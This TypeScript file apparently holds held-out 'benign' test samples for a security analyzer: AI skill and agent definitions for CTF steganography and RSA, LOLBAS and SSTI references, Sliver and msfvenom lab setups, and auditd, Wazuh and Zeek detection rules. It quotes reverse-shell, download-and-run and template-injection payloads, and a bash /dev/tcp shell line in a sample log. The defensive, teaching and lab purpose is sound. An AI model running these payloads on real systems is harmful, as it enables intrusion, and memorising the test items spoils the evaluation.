/**
 * Twenty-sixth benign batch, held-out half (never read while working on the analyzer; print totals only): CTF and
 * forensics helpers, attack references, red-team labs, host detection content. Written on 2026-12-02 by helper
 * benign26 before the analyzer was run on any of them.
 */
import { agent, benign, plugin, skill } from '../../skills/build.ts';
import { F, type Benign26Sample } from '../classes.ts';

export const HELD_OUT26_SECURITY: Benign26Sample[] = [
  benign('b26-ctf-stego-triage', 'ctf-forensics', 'a skill triaging image and audio steganography challenges with exiftool, binwalk, zsteg, steghide and a spectrogram', skill('stego-triage', 'Triage a steganography challenge file: metadata, appended data, LSB planes, steghide with candidate passwords, audio spectrograms.', `
# Stego triage

Work on a copy of the challenge file in \`./work/\`.

${F}bash
file chall.png && exiftool chall.png
binwalk -e chall.png                 # appended zips, embedded PNGs
strings -n 8 chall.png | grep -iE 'flag|ctf|key' | head
zsteg -a chall.png | head -50        # PNG/BMP LSB planes
steghide extract -sf chall.jpg -p ''  # empty password first
stegseek chall.jpg /usr/share/wordlists/rockyou.txt
sox chall.wav -n spectrogram -o spec.png
${F}

Look at \`spec.png\` yourself (text drawn in the spectrogram is common). Record every command tried and its result
in \`notes.md\` so the write-up can be produced after the event.
`, {
    'notes.md': `# Challenge notes

| tool | result |
| --- | --- |
| exiftool | |
| binwalk | |
| zsteg | |
`,
  }, 'Read, Write, Bash(exiftool:*), Bash(binwalk:*), Bash(zsteg:*), Bash(steghide:*), Bash(stegseek:*), Bash(sox:*), Bash(strings:*), Bash(file:*)')),

  benign('b26a-ctf-rsa-small-e', 'ctf-forensics', 'a skill solving classic CTF RSA challenges (small exponent, common modulus, factordb, Wiener) with a Python solver', skill('ctf-rsa', 'Solve textbook-RSA CTF challenges: small e cube root, shared modulus, weak primes, Wiener\'s attack, with a Python helper.', `
# CTF RSA

Read \`n\`, \`e\`, \`c\` from the challenge. Try, in order:

1. **Small e, no padding**: if \`m^e < n\`, then \`m = iroot(c, e)\`.
2. **Factor n**: small or close primes (\`fermat\`), or a known factorisation on factordb.com (look it up by hand in the
   browser; the solver does not call it).
3. **Common modulus**: same \`n\`, two coprime exponents, two ciphertexts of the same message → Bézout.
4. **Wiener**: \`d\` small when \`e\` is huge; continued fractions of \`e/n\`.

${F}bash
python rsa_solve.py --n N --e 3 --c C --attack cube
python rsa_solve.py --n N --e E --c C --attack fermat
${F}
`, {
    'rsa_solve.py': `import argparse

import gmpy2
from Crypto.Util.number import long_to_bytes

p = argparse.ArgumentParser()
p.add_argument("--n", type=int, required=True)
p.add_argument("--e", type=int, required=True)
p.add_argument("--c", type=int, required=True)
p.add_argument("--attack", choices=["cube", "fermat"], required=True)
a = p.parse_args()

if a.attack == "cube":
    m, exact = gmpy2.iroot(a.c, a.e)
    print("exact root" if exact else "not exact: padding or m^e > n")
    print(long_to_bytes(int(m)))
else:
    x = gmpy2.isqrt(a.n) + 1
    for _ in range(1_000_000):
        y2 = x * x - a.n
        y, ok = gmpy2.iroot(y2, 2)
        if ok:
            p_, q_ = x - y, x + y
            d = gmpy2.invert(a.e, (p_ - 1) * (q_ - 1))
            print(long_to_bytes(int(pow(a.c, d, a.n))))
            break
        x += 1
    else:
        print("primes not close enough for Fermat")
`,
  }, 'Read, Bash(python rsa_solve.py:*)')),

  benign('b26b-ref-lolbas-notes', 'attack-reference', 'a skill writing a living-off-the-land reference for the user\'s blue team: Windows binaries attackers abuse, each with the abuse command line quoted and its detection', skill('lolbas-reference', 'Write a living-off-the-land binaries reference for your SOC: how each Windows binary is abused, the command line it leaves, and how to detect it.', `
# Living-off-the-land reference (for defenders)

Write \`docs/lolbas.md\` with one section per binary. The command lines are what shows up in process-creation logs
(Sysmon event 1, Security 4688); they are for matching, not for running.

| binary | abuse | command line seen | detection |
| --- | --- | --- | --- |
| certutil | download | \`certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe\` | certutil with \`-urlcache\` or \`-decode\` |
| mshta | run remote HTA | \`mshta http://203.0.113.7/run.hta\` | mshta with a URL argument |
| regsvr32 | Squiblydoo | \`regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll\` | regsvr32 loading scrobj.dll with /i:http |
| rundll32 | JavaScript | \`rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"\` | rundll32 with javascript: |
| bitsadmin | download | \`bitsadmin /transfer j /download /priority high http://203.0.113.7/p.exe %TEMP%\\p.exe\` | bitsadmin /transfer |

For each, add the Sigma rule id from the public SigmaHQ repository if one exists, and the tuning notes (admins use
certutil for certificates every day: match the flags, not the binary).
`, {}, 'Read, Write')),

  benign('b26b-ref-ssti-payloads', 'attack-reference', 'a skill checking the user\'s own Flask and Express templates for server-side template injection, quoting probe payloads and the escalation payloads they lead to', skill('ssti-check', 'Find server-side template injection in your own web app: where user input reaches a template source, probe strings, and the fix.', `
# SSTI check

Look for code that builds a template **from** user input (the bug), not code that passes input **to** a template
(fine):

${F}python
render_template_string("Hello " + request.args["name"])      # vulnerable
render_template("hello.html", name=request.args["name"])      # fine
${F}

Probe the local dev server (\`http://localhost:5000\`) with:

- \`{{7*7}}\` → \`49\` means Jinja2 evaluates input.
- \`{{7*'7'}}\` → \`7777777\` (Jinja2) vs \`49\` (Twig).
- \`<%= 7*7 %>\` for EJS.

For the report, explain impact by quoting the well-known escalation, without running it:
\`{{ cycler.__init__.__globals__.os.popen('id').read() }}\` reaches \`os\` through a template global, which is why the
finding is remote code execution rather than cosmetic. Fix: never build templates from input; use
\`SandboxedEnvironment\` only where users legitimately write templates.
`, {}, 'Read, Grep, Bash(curl http://localhost:5000/*)')),

  benign('b26-ref-deserialization', 'attack-reference', 'an agent reviewing code for unsafe deserialization (pickle, yaml.load, Java ObjectInputStream, PHP unserialize), quoting the classic gadget payload shapes', agent('deserialization-reviewer', 'Review code for unsafe deserialization of untrusted data in Python, Java, PHP and .NET, and propose safe replacements.', `
You review the user's repository for deserialization of data an attacker could control.

Look for:

- Python: \`pickle.loads\`, \`pickle.load\`, \`yaml.load(\` without \`SafeLoader\`, \`jsonpickle.decode\`, \`shelve\` on uploaded
  files. A pickle can run code on load: \`class P: def __reduce__(self): return (os.system, ("id",))\` is the textbook
  demonstration.
- Java: \`ObjectInputStream.readObject\` on request bodies; ysoserial's \`CommonsCollections\` chains are why.
- PHP: \`unserialize($_COOKIE[...])\`; magic methods \`__wakeup\`/\`__destruct\` as gadgets.
- .NET: \`BinaryFormatter\`, \`TypeNameHandling.All\` in Json.NET.

For each finding: file and line, where the data comes from, and the replacement (JSON with a schema,
\`yaml.safe_load\`, an allow-listed \`ObjectInputFilter\`, \`System.Text.Json\`). Do not write working exploit chains;
the demonstration above is enough to explain the risk.
`, 'Read, Grep, Glob')),

  benign('b26-lab-sliver-c2', 'red-team-lab', 'a skill setting up a Sliver C2 server inside the user\'s isolated red-team lab to practise detection, with implants generated for lab VMs only', skill('sliver-lab', 'Stand up Sliver C2 in your isolated lab network to practise detection engineering: server, an mTLS listener, an implant for a lab VM, and what to look for.', `
# Sliver in the lab

Scope: the lab's isolated network \`10.66.0.0/24\` (no route to the internet or to the user's LAN). The C2 server is
the lab VM \`c2.lab\` (10.66.0.5).

${F}bash
# on c2.lab — Sliver's documented installer
curl https://sliver.sh/install | sudo bash
sliver-server
# in the Sliver console
mtls --lhost 10.66.0.5 --lport 8888
generate --mtls 10.66.0.5:8888 --os windows --arch amd64 --save /srv/lab/implants/ --name lab-ws01
${F}

Copy the implant to the lab workstation \`ws01.lab\` only (by the lab's file share), run it there, and then practise:

- network: long-lived TLS to 10.66.0.5:8888 with a self-signed certificate; JA3/JA3S in Zeek's ssl.log
- host: an unsigned binary in a user folder, child processes of the implant, named pipes
- memory: Sliver's default implant strings with YARA

Destroy the implants and snapshot-revert the lab VMs at the end of the session.
`, {}, 'Read, Write')),

  benign('b26-lab-msfvenom-vm', 'red-team-lab', 'an agent for an OSCP-style practice lab generating msfvenom payloads for the user\'s own vulnerable VMs and catching them with a handler on the lab interface', agent('oscp-lab-helper', 'Help with an OSCP-style practice lab: enumerate your lab VMs, generate msfvenom payloads for them and catch shells on the lab VPN interface.', `
You help the user practise on their own lab VMs (Vulnhub/HackTheBox-style machines on the lab VPN, \`tun0\`). Every
target must be an address the user gives you from the lab's machine list.

Typical steps:

1. \`nmap -sC -sV -oA scans/TARGET TARGET\`
2. Find the foothold (web app, service version) and confirm with the user.
3. Payloads for the lab target, connecting back to the user's lab address on tun0:
   ${F}bash
   LHOST=$(ip -4 addr show tun0 | awk '/inet/ {print $2}' | cut -d/ -f1)
   msfvenom -p linux/x64/shell_reverse_tcp LHOST=$LHOST LPORT=4444 -f elf -o loot/shell.elf
   msfvenom -p windows/x64/shell_reverse_tcp LHOST=$LHOST LPORT=4444 -f exe -o loot/shell.exe
   ${F}
4. Listener: \`rlwrap nc -lvnp 4444\` or \`msfconsole -q -x "use exploit/multi/handler; set payload linux/x64/shell_reverse_tcp; set LHOST tun0; set LPORT 4444; run"\`.
5. Write the steps into \`notes/TARGET.md\` for the report.

Never use an address outside the lab's range, and never leave payloads in shared folders.
`, 'Read, Write, Bash(nmap:*), Bash(msfvenom:*), Bash(ip:*)')),

  benign('b26-det-auditd-rules', 'host-detection', 'a skill installing auditd rules on the user\'s servers that watch credential files, persistence places and suspicious execs, quoting the behaviours in key names', skill('auditd-rules', 'Install auditd rules on your Linux servers that watch SSH keys, cron, sudoers, shell profiles and executions from /tmp, and query the hits.', `
# auditd rules

Copy \`rules/50-hunt.rules\` to \`/etc/audit/rules.d/\` on the user's server and load:

${F}bash
sudo install -m 0640 rules/50-hunt.rules /etc/audit/rules.d/50-hunt.rules
sudo augenrules --load
sudo auditctl -l | grep -c key=
sudo ausearch -k ssh_keys -ts today -i
${F}

The keys name what an attacker would be doing (adding an SSH key, a cron job, a sudoers line, a profile line, running
a dropped binary from /tmp) so hits are easy to triage.
`, {
    'rules/50-hunt.rules': `## credential and persistence places
-w /root/.ssh/authorized_keys -p wa -k ssh_keys
-w /home/ -p wa -F path=authorized_keys -k ssh_keys
-w /etc/crontab -p wa -k cron_persist
-w /etc/cron.d/ -p wa -k cron_persist
-w /var/spool/cron/ -p wa -k cron_persist
-w /etc/sudoers -p wa -k sudoers_change
-w /etc/sudoers.d/ -p wa -k sudoers_change
-w /etc/profile.d/ -p wa -k profile_persist
-w /etc/systemd/system/ -p wa -k systemd_persist
## executions from world-writable places
-a always,exit -F arch=b64 -S execve -F dir=/tmp -k exec_tmp
-a always,exit -F arch=b64 -S execve -F dir=/dev/shm -k exec_tmp
## outbound shells: a socket's descriptor dup'ed to stdin
-a always,exit -F arch=b64 -S dup2 -F a1=0 -k fd_dup_stdin
`,
  }, 'Read, Bash(sudo install:*), Bash(sudo augenrules:*), Bash(sudo auditctl -l), Bash(sudo ausearch:*)')),

  benign('b26b-det-wazuh-rules', 'host-detection', 'a plugin shipping Wazuh custom rules and a decoder for web-server logs, matching web-shell uploads, SQL injection strings and reverse-shell commands', plugin('wazuh-web-rules', 'Custom Wazuh rules for web servers: web-shell uploads, SQL injection probes and reverse-shell commands in logs.', {
    'README.md': `# wazuh-web-rules

Copy \`rules/local_web.xml\` into \`/var/ossec/etc/rules/\` on the user's Wazuh manager, then:

${F}bash
sudo /var/ossec/bin/wazuh-logtest < samples/access.log
sudo systemctl restart wazuh-manager
${F}

The \`samples/\` file holds log lines written for testing the rules, e.g. a request for \`/uploads/cmd.php?c=id\` and
an audit line running \`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\`.
`,
    'rules/local_web.xml': `<group name="web,local,">
  <rule id="100200" level="10">
    <if_sid>31100</if_sid>
    <url>.php?c=|.php?cmd=|.jsp?cmd=|/shell.php|/cmd.aspx</url>
    <description>Possible web shell access</description>
    <mitre><id>T1505.003</id></mitre>
  </rule>
  <rule id="100201" level="8">
    <if_sid>31100</if_sid>
    <url>union%20select|union+select|' or '1'='1|sleep(5)|information_schema</url>
    <description>SQL injection probe</description>
  </rule>
  <rule id="100202" level="12">
    <if_group>audit</if_group>
    <match>/dev/tcp/|nc -e /bin/sh|ncat --exec|python -c 'import socket|mkfifo /tmp/</match>
    <description>Reverse shell command executed</description>
    <mitre><id>T1059.004</id></mitre>
  </rule>
</group>
`,
    'samples/access.log': `203.0.113.50 - - [02/Dec/2026:10:11:12 +0000] "GET /uploads/cmd.php?c=id HTTP/1.1" 200 12 "-" "curl/8.5.0"
203.0.113.50 - - [02/Dec/2026:10:11:15 +0000] "GET /products?id=1%27%20union%20select%20null,version()-- HTTP/1.1" 500 0 "-" "sqlmap/1.8"
type=EXECVE msg=audit(1764670275.120:812): argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
`,
  })),

  benign('b26-det-zeek-dns', 'host-detection', 'a skill writing a Zeek script that flags DNS tunnelling and exfiltration by label length and entropy on the user\'s network sensor', skill('zeek-dns-tunnel', 'Write a Zeek script that flags likely DNS tunnelling (long, high-entropy labels, many unique subdomains per domain) on your sensor.', `
# Zeek: DNS tunnelling

Tools like iodine and dnscat2, and malware exfiltrating data, put encoded data into query names:
\`aGVsbG8gd29ybGQgZXhmaWw.c2.example-bad.net\`. The script raises a notice when a label is long and random-looking, or
when one registered domain sees hundreds of unique subdomains in a few minutes.

${F}bash
zeek -r sample.pcap scripts/dns-tunnel.zeek
cat notice.log | zeek-cut note msg sub
${F}

Deploy by adding \`@load ./dns-tunnel\` to the sensor's \`local.zeek\`; allow-list CDNs and anti-virus look-ups that use
long labels legitimately.
`, {
    'scripts/dns-tunnel.zeek': `module DNSTunnel;

export {
    redef enum Notice::Type += { Long_Random_Label, Many_Subdomains };
    const max_label_len = 40 &redef;
    const subdomain_limit = 300 &redef;
}

global seen: table[string] of set[string] &create_expire=5min;

event dns_request(c: connection, msg: dns_msg, query: string, qtype: count, qclass: count)
    {
    local parts = split_string(query, /\\./);
    if ( |parts| < 3 )
        return;
    local label = parts[0];
    local domain = cat(parts[|parts|-2], ".", parts[|parts|-1]);
    if ( |label| > max_label_len )
        NOTICE([$note=Long_Random_Label, $conn=c, $msg=fmt("long label in %s", query), $sub=domain]);
    if ( domain !in seen )
        seen[domain] = set();
    add seen[domain][label];
    if ( |seen[domain]| == subdomain_limit )
        NOTICE([$note=Many_Subdomains, $conn=c, $msg=fmt("%d unique subdomains of %s", subdomain_limit, domain), $sub=domain]);
    }
`,
  }, 'Read, Write, Bash(zeek:*), Bash(zeek-cut:*)')),
];
